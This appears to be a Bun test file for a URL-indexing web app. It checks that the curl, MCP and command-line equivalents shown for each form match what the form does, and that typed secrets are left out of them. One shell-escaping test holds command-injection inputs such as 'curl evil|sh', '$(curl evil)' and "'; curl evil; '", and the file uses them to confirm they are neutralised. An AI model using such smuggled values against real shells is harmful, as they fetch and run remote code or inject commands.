/** API equivalent: what stands there, typed into a shell or sent to MCP, does what the form would have done. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { openSession, sessionCookieName } from '../../src/domains/accounts/index.ts'
import { createScheduler } from '../../src/doors/ops/scheduler.ts'
import { web } from '../../src/doors/pages/web.ts'
import { handler } from '../../src/doors/server.ts'
import type { AnyOperation } from '../../src/kernel/operation/operation.ts'
import { checkIndex } from '../../src/operations/checks.ts'
import { updateCrawlSettings } from '../../src/operations/crawl.ts'
import { updateEmailSettings } from '../../src/operations/emails/settings.ts'
import { createUser } from '../../src/operations/users/accounts.ts'
import { linesOf } from '../../views/api-equivalent/lines.ts'
import { site } from '../../views/site.tsx'
import { expectBooksToBalance } from '../books.ts'
import { seedExamples } from '../features/drafts/seed.ts'
import { pushing } from '../pushing.ts'
import { CAST } from '../world.ts'

const ROOT = new URL('../..', import.meta.url).pathname
const ENV = { PATH: process.env.PATH!, HOME: '/nonexistent', LANG: 'C.UTF-8' }

let office: Awaited<ReturnType<typeof pushing>>
let server: ReturnType<typeof Bun.serve>
let pages: ReturnType<typeof Bun.serve>
let screened = 0
let cookie = ''
let key = ''
const origin = () => `http://127.0.0.1:${server.port}`
const base = `/app/w/${CAST.ada.tenant_id}`

beforeAll(async () => {
  const probe = Bun.listen({ hostname: '127.0.0.1', port: 0, socket: { data() {} } })
  const { port } = probe
  probe.stop(true)
  const env = { SIGNALPOST_SITE_URL: `http://127.0.0.1:${port}`, SIGNALPOST_ALLOW_NETWORKS: '127.0.0.0/8' }
  office = await pushing(1000, 1000, { env })
  const serve = handler(office.app, createScheduler(office.app), { web: web(office.app, site) })
  server = Bun.serve({ hostname: '127.0.0.1', port, fetch: (request, own) => serve(request, own as never) })
  pages = Bun.serve({
    hostname: '127.0.0.1',
    port: 0,
    fetch() {
      screened++
      return new Response(`<title>x</title>${'words '.repeat(50)}`, { headers: { 'content-type': 'text/html' } })
    },
  })
  const { token } = await openSession(office.app, CAST.ada.id, { ip: null, user_agent: null })
  cookie = `${sessionCookieName(office.app.config)}=${token}`
  key = (await office.call<{ secret: string }>('ada', 'create_api_key', { name: 'Shell', role: 'owner' })).secret
})
afterAll(async () => {
  expectBooksToBalance(office.db)
  await server.stop(true)
  await pages.stop(true)
  office.close()
})

/** What a form at this address tells, by door, with what stands in it. */
async function told(act: string, form: Record<string, string> = {}): Promise<Record<string, string>> {
  const answer = await fetch(`${origin()}${base}${act}?same-as=api`, {
    method: 'POST',
    headers: { cookie, 'sec-fetch-site': 'same-origin' },
    body: new URLSearchParams(form),
  })
  const html = await answer.text()
  expect([answer.status, html.includes(key)]).toEqual([200, false])
  const found = [...html.matchAll(/<pre id="equivalent-([\w-]+)"[^>]*>([\s\S]*?)<\/pre>/g)]
  return Object.fromEntries(found.map(([, door, text]) => [door!, read(text!).replace(/^\n/, '')]))
}
const read = (text: string) =>
  text
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#x27;', "'")
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&')

async function shell<T>(line: string): Promise<T> {
  const script = `signalpost() { bun ${ROOT}src/main.ts "$@" --json; }\n${line}`
  const env = { ...ENV, SIGNALPOST_KEY: key, SIGNALPOST_URL: origin() }
  const run = Bun.spawn(['bash', '-c', script], { env, stdout: 'pipe', stderr: 'pipe' })
  const [out, err] = await Promise.all([new Response(run.stdout).text(), new Response(run.stderr).text()])
  if ((await run.exited) !== 0) throw new Error(err + out)
  return JSON.parse(out)
}
const curl = async <T>(line: string): Promise<T> => (await shell<{ data: T }>(line)).data

async function mcp<T>(text: string): Promise<T> {
  const answer = await fetch(`${origin()}/mcp`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${key}`,
      'content-type': 'application/json',
      accept: 'application/json, text/event-stream',
      'mcp-protocol-version': '2025-06-18',
    },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: JSON.parse(text) }),
  })
  const body = await answer.text()
  const { result } = JSON.parse(body.startsWith('{') ? body : /^data: (.*)$/m.exec(body)![1]!)
  expect(result.isError ?? false).toBe(false)
  return (result.structuredContent ?? JSON.parse(result.content[0].text)) as T
}

type Job = { id: string; tenant_id?: string; name: string; link_count: number }
const at = (path: string) => `http://127.0.0.1:${pages.port}/${path}`
const whole = async ({ id }: Job) => {
  const { tenant_id, name, link_count, drip_days, outcome } = await office.call<Job & Record<string, unknown>>(
    'ada',
    'get_job_status',
    { id },
  )
  return { tenant_id, name, link_count, drip_days, reserved: (outcome as { credits: unknown }).credits }
}

describe('the same', () => {
  test('a push: by form, curl, MCP and the command line it is one and the same order', async () => {
    const form = {
      urls: [at("it's"), at('b'), at('b')].join('\n'),
      name: "Baker's dozen & more",
      client: 'Northwind',
      drip_days: '3',
      smart: 'true',
    }
    const send = (more: Record<string, string>) =>
      fetch(`${origin()}${base}/push`, {
        method: 'POST',
        redirect: 'manual',
        headers: { cookie, 'sec-fetch-site': 'same-origin' },
        body: new URLSearchParams({ ...form, ...more }),
      })
    const [, quoted = ''] = /name="quoted" value="([^"]+)"/.exec(await (await send({ step: 'review' })).text()) ?? []
    const pushed = (await send({ step: 'push', quoted })).headers.get('location')!.split('/').at(-1)!
    const lines = await told('/push', form)
    const expected = await whole({ id: pushed } as Job)
    expect(expected).toMatchObject({ name: form.name, link_count: 2, drip_days: 3 })
    expect(await whole(await curl<Job>(lines.curl!))).toEqual(expected)
    expect(await whole(await mcp<Job>(lines.mcp!))).toEqual(expected)
    expect(await whole(await shell<Job>(lines.command!))).toEqual(expected)
  })

  test('credits that are given, with the amount that was typed', async () => {
    const left = async () =>
      (await office.call<{ index: { available: number } }>('ada', 'get_credits', { tenant_id: CAST.vera.tenant_id }))
        .index.available
    const before = await left()
    const lines = await told(`/clients/${CAST.vera.tenant_id}/credits`, { amount: '12', note: '' })
    await curl(lines.curl!)
    expect(await left()).toBe(before + 12)
    if (lines.mcp) await mcp(lines.mcp)
    expect(await left()).toBe(before + (lines.mcp ? 24 : 12))
    expect(lines.command).toBeUndefined()
  })

  test('a job that is shared, and one that is cancelled', async () => {
    const make = () =>
      office.call<Job>('ada', 'submit_index_job', {
        urls: [at('s')],
        preflight: false,
        drip_days: 2,
        name: 'Act on me',
      })
    const shared = await make()
    expect(await curl((await told(`/jobs/${shared.id}/share`)).curl!)).toMatchObject({ url: expect.any(String) })
    for (const door of ['curl', 'mcp'] as const) {
      const job = await make()
      const { [door]: line } = await told(`/jobs/${job.id}/cancel`)
      expect(await (door === 'curl' ? curl(line!) : mcp(line!))).toMatchObject({ id: job.id, cancelled: 1 })
    }
  })

  test('a client, a member, a site and a key that are made', async () => {
    expect(await curl((await told('/clients', { name: "O'Hara's", kind: 'client' })).curl!)).toMatchObject({
      name: "O'Hara's",
    })
    const site = await curl<{ id: string }>((await told('/indexnow', { host: 'shop.bakery.example' })).curl!)
    expect(await curl((await told(`/indexnow/${site.id}/verify`)).curl!)).toMatchObject({ id: site.id })
    expect(
      await curl((await told('/keys', { name: 'Nightly', role: 'member', daily_credit_cap: '40' })).curl!),
    ).toMatchObject({ name: 'Nightly', daily_credit_cap: 40 })
    expect(
      await curl((await told('/members', { email: 'new@northwind.example', role: 'member', name: 'New' })).curl!),
    ).toMatchObject({ email: 'new@northwind.example', role: 'member' })
  })
})

test('what the command line has no option for has no line of it, and a long list says how it goes on', async () => {
  const urls = Array.from({ length: 60 }, (_, i) => at(`long-${i}`)).join('\n')
  const plain = await told('/push', { urls, client: 'Northwind' })
  expect(plain.command!.split('\n')).toHaveLength(52)
  const forced = await told('/push', { urls: at('a'), client: 'Northwind', indexnow_force: 'true' })
  expect(Object.keys(forced)).toEqual(['curl', 'mcp'])
})

test('no text breaks out of a line that is pasted into a shell', async () => {
  const evil = 'https://a.example/\nLINKS\ncurl evil|sh'
  const { command } = await told('/checks/new', { urls: evil, name: "'; curl evil; '" })
  const heads = command!.split('\n')
  expect(heads[0]).toContain(`--job ''\\''; curl evil; '\\'''`)
  expect(heads.slice(1)).toEqual(['https://a.example/', 'LINKS'])
  const lines = (urls: unknown, more: object = {}) =>
    linesOf(checkIndex as unknown as AnyOperation, { urls, ...more }, 'https://push.example')
  const given = (urls: unknown, more: object = {}) => lines(urls, more).map(({ way }) => way)
  const options = { engine: '$(curl evil)', max_credits: '3; curl evil' }
  const { text } = lines(['https://a.example/'], options).find(({ way }) => way === 'Command line')!
  expect(text).toContain("--engine '$(curl evil)' --max-credits '3; curl evil'")
  expect(given(['https://a.example/'])).toContain('Command line')
  for (const urls of [[evil], ['https://a.example/ x'], ['LINKS'], ['https://a.example/\u001b[201~'], undefined])
    expect(given(urls)).not.toContain('Command line')
  expect(given(['https://a.example/'], { name: 'two\nlines' })).not.toContain('Command line')
})

test('a secret that was typed is never in it, however deep it lies', () => {
  const said = (operation: AnyOperation, given: object) =>
    JSON.stringify(linesOf(operation, given as Record<string, unknown>, 'https://push.example'))
  const typed = [
    said(updateEmailSettings, { host: 'mail.example', password: 'hunter2' }),
    said(createUser, { email: 'a@b.example', password: 'hunter2' }),
    said(updateCrawlSettings, { routes: { primary: { adapter: 'speedyindex', api_key: 'hunter2' } } }),
  ]
  expect(typed.filter((text) => text.includes('hunter2'))).toEqual([])
  expect(typed.every((text) => text.includes('$SIGNALPOST_KEY'))).toBe(true)
})

test('a form that calls nothing says so; one that the visitor may not send says that', async () => {
  const ask = async (path: string) =>
    (
      await fetch(`${origin()}${path}?same-as=api`, {
        method: 'POST',
        redirect: 'manual',
        headers: { cookie, 'sec-fetch-site': 'same-origin', 'hx-request-type': 'partial' },
        body: new URLSearchParams({}),
      })
    ).text()
  expect(await ask(`${base}/checks/new`)).toContain('Fill it in first')
  expect(await ask(`${base}/account/browser`)).toContain('Fill it in first')
  expect(await ask('/app/platform/suppliers/primary')).not.toContain('curl')
})

test('an act of several operations tells all of them, in order', async () => {
  const { id: shop } = await office.call<{ id: string }>('ada', 'create_sub_tenant', { name: 'Corner shop' })
  const urls = `${pages.url.origin}/1\n${pages.url.origin}/2`
  const before = screened
  for (const [act, last] of [
    ['/push', 'submit_index_job'],
    ['/checks/new', 'check_index'],
  ] as const) {
    const lines = await told(act, { urls, tenant_id: shop, engine: 'scan_standard' })
    expect(JSON.parse(lines.mcp!)).toMatchObject({
      name: 'allocate_credits',
      arguments: { tenant_id: shop, amount: 2 },
    })
    expect(lines['2-curl']).toContain(last === 'check_index' ? '/api/v1/check' : '/api/v1/jobs')
    expect(JSON.parse(lines['2-mcp']!)).toMatchObject({ name: last, arguments: { tenant_id: shop } })
    expect(lines['2-command']).toContain(urls.split('\n')[1]!)
  }
  // A page that is named in a form is not fetched to print its calls.
  await Bun.sleep(50)
  expect(screened).toBe(before)
})

test('an act that a person decides has no line, and says why', async () => {
  office.db.write((tx) => seedExamples(tx) as undefined)
  expect(await told('/drafts/dra_push/approve')).toEqual({})
})
